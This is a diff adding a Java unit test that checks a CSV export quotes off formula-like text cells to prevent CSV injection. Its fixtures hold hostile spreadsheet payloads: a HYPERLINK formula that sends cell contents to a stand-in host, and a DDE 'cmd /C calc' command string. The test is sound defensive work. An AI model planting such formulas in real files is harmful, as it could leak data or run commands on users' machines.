@@ -161,6 +161,30 @@ class CsvExportTest {
         assertThat(parse(csv).getFirst().get("user")).isEqualTo(user);
     }
 
+    /**
+     * A cell a spreadsheet would run as a formula (OWASP "CSV injection") is prefixed with a single quote, in the
+     * text columns only: a negative amount stays a number.
+     */
+    @Test
+    void textThatASpreadsheetWouldRunAsAFormulaIsQuotedOff() throws IOException {
+        LedgerRow r = new LedgerRow("j3-1", AT, "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+pro", "-ns",
+                "@SUM(A1:A9)", "\tmodel", "PROVIDER", 1, 2, 1_500_000, -500_000, 3);
+        LedgerRow cr = new LedgerRow("j3-2", AT, "\rcmd|' /C calc'!A0", "plain", "ns", "m", "m", "L1", 1, 2, 0, 0, 3);
+
+        Map<String, String> back = parse(export(List.of(r))).getFirst();
+        assertThat(back.get("user")).isEqualTo("'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
+        assertThat(back.get("plan")).isEqualTo("'+pro");
+        assertThat(back.get("namespace")).isEqualTo("'-ns");
+        assertThat(back.get("model_asked")).isEqualTo("'@SUM(A1:A9)");
+        assertThat(back.get("model")).isEqualTo("'\tmodel");
+        assertThat(back.get("cost_usd")).isEqualTo("1.5");
+        assertThat(back.get("saved_usd")).as("numbers are never escaped").isEqualTo("-0.5");
+        assertThat(parse(export(List.of(cr))).getFirst().get("user")).isEqualTo("'\rcmd|' /C calc'!A0");
+        // Text that only contains such characters further in is left alone.
+        assertThat(parse(export(List.of(row(1, "a=b", "p-1", 0, 0)))).getFirst())
+                .containsEntry("user", "a=b").containsEntry("plan", "p-1");
+    }
+
     @Test
     void anEmptyExportIsJustTheHeaderAndTheWriterStaysOpen() throws IOException {
         StringWriter w = new StringWriter();
